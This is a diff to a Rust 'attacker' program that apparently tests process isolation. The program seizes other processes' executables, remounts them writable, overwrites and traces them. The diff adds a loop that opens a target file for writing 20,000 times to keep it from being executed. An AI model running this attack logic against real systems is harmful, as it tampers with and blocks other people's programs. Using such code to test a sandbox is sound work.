@@ -2,7 +2,8 @@
 //!
 //! `attacker LOG PROGRAM...` looks at every process that it sees, for ever. Whose program is neither its own nor one of
 //! those named, is caught: its file is held open, made writable by changing its mount, and written over while it runs and
-//! after its end; its root and working directory are looked into; it is traced.
+//! after its end; its root and working directory are looked into; it is traced. Where /tmp/hammer exists it tries to write without a
+//! pause: while the kernel counts a writer, nobody can execute the file.
 
 use std::collections::{HashMap, HashSet};
 use std::fs::{File, OpenOptions};
@@ -81,6 +82,11 @@ impl Attack {
             let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
             self.make_writable(&fd, &path);
             self.overwrite(&path);
+            if Path::new("/tmp/hammer").exists() {
+                for _ in 0..20_000 {
+                    let _ = OpenOptions::new().write(true).open(&path);
+                }
+            }
         }
     }
 
